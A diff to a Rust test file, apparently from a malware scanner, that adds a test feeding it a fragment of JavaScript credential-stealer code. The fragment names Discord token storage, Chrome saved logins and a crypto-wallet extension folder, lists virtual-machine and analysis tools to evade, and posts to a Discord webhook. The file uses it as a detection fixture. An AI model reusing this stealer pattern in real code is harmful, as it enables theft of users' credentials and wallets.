@@ -828,6 +828,29 @@ WEBHOOK = "https://discord.com/api/webhooks/1045000289708687390/aBcDeFgHiJkLmNoP
     }
 
     #[test]
+    fn javascript_grabber() {
+        let src = r#"const path = require('path'), { execSync } = require('child_process');
+const local = process.env.LOCALAPPDATA, roaming = process.env.APPDATA;
+const paths = [roaming + '\\discord\\Local Storage\\leveldb', local + '\\Google\\Chrome\\User Data\\Default\\Login Data'];
+const ext = path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn');
+const blacklist = [`WDAGUtilityAccount`, "vmtoolsd.exe", "VBoxService", "wireshark", "fiddler"];
+fetch('https://discord.com/api/webhooks/1045000289708687390/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-aBcDeFgHiJkLmNoPqRsTuVwXyZ012', { method: 'POST' });
+"#;
+        let s = signals("index.js", src);
+        assert_eq!(
+            one(&s, ids::STEALER_TARGETS).and_then(|t| t.value),
+            Some(3.0),
+            "{s:?}"
+        );
+        assert_eq!(
+            one(&s, ids::ANTI_ANALYSIS).and_then(|t| t.value),
+            Some(5.0),
+            "{s:?}"
+        );
+        assert!(one(&s, ids::EXFIL_CREDENTIAL).is_some(), "{s:?}");
+    }
+
+    #[test]
     fn cookie_library_is_one_category() {
         let src = r#"
 def _get_chrome_like_path(browser):
